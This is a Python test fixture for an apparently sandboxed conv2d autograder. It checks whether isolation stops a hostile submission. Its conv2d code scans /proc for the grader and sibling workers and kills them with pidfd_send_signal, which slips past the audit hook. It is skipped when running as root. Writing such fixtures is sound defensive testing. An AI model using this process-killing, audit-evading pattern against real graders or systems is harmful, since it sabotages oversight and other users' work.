# Hostile fixture (issue 11): kills the grader (its parent) and the other workers it can find
# through /proc/*/cwd (os.readlink, no audited open) with pidfd_send_signal, which the audit hook
# does not see. (When it finds itself running as root, i.e. without isolation, it does nothing:
# this fixture must never take down unrelated processes on the machine running the tests.)
# Expected: bubblewrap: its own PID namespace holds no grader and no other worker; uid mode: a
# different uid may not signal the grader or other workers. The grader finishes, classmates
# keep their scores; conv2d earns 0 (it returns zeros).
import os
import signal

import numpy as np


def _targets():
    me = os.getpid()
    yield os.getppid()
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        try:
            cwd = os.readlink(f"/proc/{name}/cwd")
        except OSError:
            continue
        if "convlab-sandbox" in cwd or cwd == "/tmp":
            yield int(name)


def conv2d(inputs, filters, strides, padding):
    if os.getuid() != 0:
        for pid in list(_targets()):
            try:
                fd = os.pidfd_open(pid)
                signal.pidfd_send_signal(fd, signal.SIGKILL)
            except Exception:
                pass
    return np.zeros((1, 1, 1, 1))
